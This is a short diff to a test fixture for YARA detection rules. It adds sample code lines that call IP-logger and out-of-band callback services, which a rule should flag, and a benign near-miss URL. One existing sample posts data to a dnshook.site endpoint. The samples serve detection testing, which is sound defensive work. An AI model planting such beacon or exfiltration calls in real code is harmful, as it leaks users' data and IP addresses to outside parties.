@@ -34,8 +34,11 @@ OOB_HITS = [
     "u = 'abc123.oast.cz'\n",
     "requests.post('https://0f0f.dnshook.site', json=d)\n",
     "u = 'http://canarytokens.com/images/x'\n",
+    "urllib.request.urlopen('https://iplogger.com/2Abc')\n",  # IP loggers: the visit is the beacon
+    "requests.get('https://grabify.link/XYZ')\n",
 ]
-OOB_MISSES = ["u = 'https://toast.fun.example.invalid'\n", "u = 'https://pipedream.com/docs'\n"]
+OOB_MISSES = ["u = 'https://toast.fun.example.invalid'\n", "u = 'https://pipedream.com/docs'\n",
+              "u = 'https://myiplogger.example.invalid/'\n"]
 # What tests/yara/test_pack.py checks every rule has.
 POSITIVE = {"encoded_endpoint": ENDPOINT_HITS, "oob_destination_domain": OOB_HITS}
 BENIGN = {"encoded_endpoint": ENDPOINT_MISSES, "oob_destination_domain": OOB_MISSES}
